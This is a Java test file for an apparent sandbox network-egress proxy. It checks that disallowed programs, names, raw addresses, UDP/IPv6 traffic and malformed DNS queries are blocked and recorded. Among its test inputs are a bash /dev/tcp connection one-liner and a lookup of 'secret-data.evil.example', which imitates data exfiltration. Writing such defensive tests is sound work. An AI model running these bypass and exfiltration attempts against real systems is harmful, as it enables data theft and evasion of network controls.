package io.openshell.agent.execute;

import static org.assertj.core.api.Assertions.assertThat;

import io.openshell.agent.execute.CapturedStage.Result;
import io.openshell.agent.launcher.CatalogueSetting;
import io.openshell.model.egress.ReasonCode;
import io.openshell.proxy.Verdict;
import java.io.IOException;
import java.net.InetSocketAddress;
import java.util.concurrent.Callable;
import java.util.concurrent.FutureTask;
import java.util.concurrent.TimeUnit;
import java.util.function.BooleanSupplier;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/** Endpoints with {@code protocol: tcp} from inside a real sandbox: the name is answered, the connection carried, and nothing else. */
class CapturedTrafficTest {
    private static final String TALK = """
            s=socket.create_connection(('db.test',%d),5); s.settimeout(5)
            hello=s.recv(6); s.sendall(b'ping'); print(hello, s.recv(4), s.getpeername()[0].rsplit('.',2)[0])
            """;
    private static final String QUERY = """
            def query(name, kind, tcp=False):
              q=struct.pack('>HHHHHH',7,0x100,1,0,0,0)+b''.join(bytes([len(l)])+l.encode() for l in name.split('.'))+b'\\0'+struct.pack('>HH',kind,1)
              s=socket.socket(2,1 if tcp else 2); s.settimeout(5); s.connect(('127.0.0.53',53))
              s.sendall((struct.pack('>H',len(q)) if tcp else b'')+q)
              a=s.recv(600)
              if tcp: a=a[2:]
              return a[3]&15, struct.unpack('>H',a[6:8])[0], '.'.join(map(str,a[-4:])) if a[7] else '-'
            """;
    private CapturedStage stage;

    /** Where the sandbox runs; skips the test where it cannot. */
    CatalogueSetting setting() throws IOException {
        return CatalogueSetting.onTheHost();
    }

    @BeforeEach
    void open() throws Exception {
        stage = new CapturedStage(setting(), CapturedStage.policy(CapturedStage.tcp("db.test", 5432), CapturedStage.tcp("*.wild.test", 5432)));
    }

    @AfterEach
    void close() throws Exception {
        if (stage != null) {
            stage.close();
        }
    }

    private void denied(Verdict verdict, ReasonCode code) {
        assertThat(verdict.allowed()).as("%s", verdict).isFalse();
        assertThat(verdict.code()).as("%s", verdict).contains(code);
    }

    private static void byPython(Verdict verdict) {
        assertThat(verdict.binary()).as("%s", verdict).startsWith("/usr/bin/python3");
        assertThat(verdict.circumstances().sha256().get(verdict.binary())).matches("[0-9a-f]{64}");
    }

    @Test
    void aProgramThatKnowsNoProxyReachesAnAllowedNameAtTheAddressThatWasChecked() throws Exception {
        Result talk = stage.python(TALK.formatted(5432));

        assertThat(talk.out()).as("%s", talk).isEqualTo("b'hello\\n' b'ping' 198.18");
        assertThat(stage.dialled).containsExactly(new InetSocketAddress("10.1.2.3", 5432));
        Verdict verdict = stage.verdict();
        assertThat(verdict.allowed()).as("%s", verdict).isTrue();
        assertThat(verdict.target()).isEqualTo("db.test:5432");
        assertThat(verdict.policyKey()).isEqualTo("db");
        assertThat(verdict.circumstances().addresses()).extracting(each -> each.getHostAddress()).containsExactly("10.1.2.3");
        byPython(verdict);
    }

    @Test
    void anotherProgramIsCutOffBeforeAnythingIsDialled() throws Exception {
        assertThat(stage.python(TALK.formatted(5432)).code()).isZero();
        stage.verdict();
        stage.dialled.clear();

        Result bash = stage.run("bash", "-c", "exec 3<>/dev/tcp/db.test/5432 && read -r line <&3; echo \"got:$line\"");
        assertThat(bash.out()).as("%s", bash).endsWith("got:");
        assertThat(stage.dialled).isEmpty();
        Verdict verdict = stage.verdict();
        denied(verdict, ReasonCode.BINARY_NOT_ALLOWED);
        assertThat(verdict.binary()).endsWith("/bash");
    }

    @Test
    void aNameThatIsNotAllowedIsRefusedWithoutBeingLookedUpAndRecordedOnce() throws Exception {
        Result names = stage.python("""
                socket.getaddrinfo('db.test',5432)
                try: print(socket.getaddrinfo('secret-data.evil.example',443))
                except socket.gaierror as e: print('no')
                """);
        assertThat(names.out()).as("%s", names).isEqualTo("no");
        assertThat(stage.lookedUp).containsOnly("db.test");
        Verdict verdict = stage.verdict();
        denied(verdict, ReasonCode.NAME_NOT_ALLOWED);
        assertThat(verdict.circumstances().host()).isEqualTo("secret-data.evil.example");
        byPython(verdict);
        assertThat(stage.verdicts).as("both kinds of addresses were asked for").isEmpty();
    }

    @Test
    void theSameDestinationByNumberIsRefusedAtOnceAndRecorded() throws Exception {
        Result number = stage.python(TALK.formatted(5432) + """
                try: socket.create_connection(('10.1.2.3',5432),5)
                except ConnectionRefusedError: print('refused')
                """);
        assertThat(number.out()).as("%s", number).endsWith("refused");
        assertThat(stage.verdict().allowed()).isTrue();
        Verdict verdict = stage.verdict();
        denied(verdict, ReasonCode.BYPASS);
        assertThat(verdict.target()).isEqualTo("10.1.2.3:5432");
        assertThat(verdict.policyKey()).isEqualTo("-");
        byPython(verdict);
    }

    @Test
    void datagramsAndIpv6AreRecordedToo() throws Exception {
        Result sent = stage.python("""
            for family,to in ((2,('8.8.8.8',53)),(10,('2001:4860:4860::8888',53))):
              s=socket.socket(family,2); s.settimeout(5); s.connect(to); s.send(b'x')
              try: s.recv(1)
              except ConnectionRefusedError: print('refused')
            """);
        assertThat(sent.out().lines()).as("%s", sent).containsExactly("refused", "refused");
        for (String target : new String[] {"udp 8.8.8.8:53", "udp [2001:4860:4860:0:0:0:0:8888]:53"}) {
            Verdict verdict = stage.verdict();
            denied(verdict, ReasonCode.BYPASS_PROTOCOL);
            assertThat(verdict.target()).isEqualTo(target);
            byPython(verdict);
        }
    }

    @Test
    void anotherPortOfAnAllowedNameAndAnAddressThatWasNeverGivenOutLeadNowhere() throws Exception {
        String cut = """
            def cut(to):
              try:
                s=socket.create_connection(to,5); s.settimeout(5)
                return s.recv(1)
              except ConnectionResetError: return 'reset'
            """;
        Result other = stage.python(TALK.formatted(5432) + cut + "print(cut(('db.test',5433)), cut(('198.18.3.200',5432)))");
        assertThat(other.out()).as("%s", other).endsWith("reset reset");
        assertThat(stage.verdict().allowed()).isTrue();
        Verdict port = stage.verdict();
        denied(port, ReasonCode.UNMAPPED_DESTINATION);
        assertThat(port.reason()).contains("port_mismatch");
        Verdict unknown = stage.verdict();
        assertThat(unknown.reason()).contains("mapping_missing");
        byPython(unknown);
        assertThat(stage.dialled).hasSize(1);
    }

    @Test
    void aChangedPolicyEndsConnectionsAndMappingsOfTheOldOne() throws Exception {
        assertThat(stage.python(TALK.formatted(5432)).code()).isZero();
        assertThat(stage.verdict().allowed()).isTrue();
        var held = beside(() -> stage.python("""
            a=socket.gethostbyname('db.test')
            s=socket.create_connection((a,5432),5); s.settimeout(15); s.recv(6)
            try: first=s.recv(1)
            except ConnectionResetError: first=b''
            try:
              t=socket.create_connection((a,5432),5); t.settimeout(5); second=t.recv(1)
            except ConnectionResetError: second='reset'
            print(first,second)
            """));
        assertThat(stage.verdict().allowed()).isTrue();
        until(() -> stage.proxy.openTunnels() == 1);
        stage.proxy.swap(CapturedStage.policy(CapturedStage.tcp("db.test", 5432)), 2);

        assertThat(held.get(20, TimeUnit.SECONDS).out()).isEqualTo("b'' reset");
        Verdict stale = stage.verdict();
        assertThat(stale.reason()).contains("mapping_stale_policy");
        assertThat(stage.python(TALK.formatted(5432)).code()).as("looked up again").isZero();
    }

    @Test
    void answersAreThoseOfTheTable() throws Exception {
        stage.names.put("in.wild.test", "10.9.9.9");
        stage.names.put("out.wild.test", "10.9.9.9 93.184.216.34");
        stage.names.put("own.wild.test", "127.0.0.1");
        Result answers = stage.python(QUERY + """
            for name,kind,tcp in (('db.test',1,False),('db.test',1,True),('DB.Test',1,False),('db.test',28,False),('db.test',16,False),
                ('in.wild.test',1,False),('out.wild.test',1,False),('own.wild.test',1,False),('none.wild.test',1,False),('no.test',1,True)):
              print(*query(name,kind,tcp))
            """);
        assertThat(answers.out().lines()).as("%s", answers).containsExactly(
                "0 1 198.18.0.1", "0 1 198.18.0.1", "0 1 198.18.0.1", "0 0 -", "4 0 -", "2 0 -", "0 1 198.18.0.2", "2 0 -", "3 0 -", "5 0 -");
    }

    @Test
    void aBrokenQuestionIsNoTrouble() throws Exception {
        Result broken = stage.python(QUERY + """
            s=socket.socket(2,2); s.settimeout(.3); s.connect(('127.0.0.53',53))
            for b in (b'', b'x'*11, b'\\0'*12, b'\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\xc0\\x0c\\0\\1\\0\\1', b'y'*512, b'z'*3000):
              s.send(b)
            t=socket.create_connection(('127.0.0.53',53),5); t.sendall(b'\\xff\\xff'); t.settimeout(5)
            print(t.recv(1), *query('db.test',1))
            """);
        assertThat(broken.out()).as("%s", broken).isEqualTo("b'' 0 1 198.18.0.1");
    }

    private static void until(BooleanSupplier condition) throws InterruptedException {
        long end = System.nanoTime() + TimeUnit.SECONDS.toNanos(5);
        while (!condition.getAsBoolean() && System.nanoTime() < end) {
            TimeUnit.MILLISECONDS.sleep(5);
        }
        assertThat(condition.getAsBoolean()).isTrue();
    }

    private static <T> FutureTask<T> beside(Callable<T> work) {
        FutureTask<T> task = new FutureTask<>(work);
        Thread.ofVirtual().start(task);
        return task;
    }
}
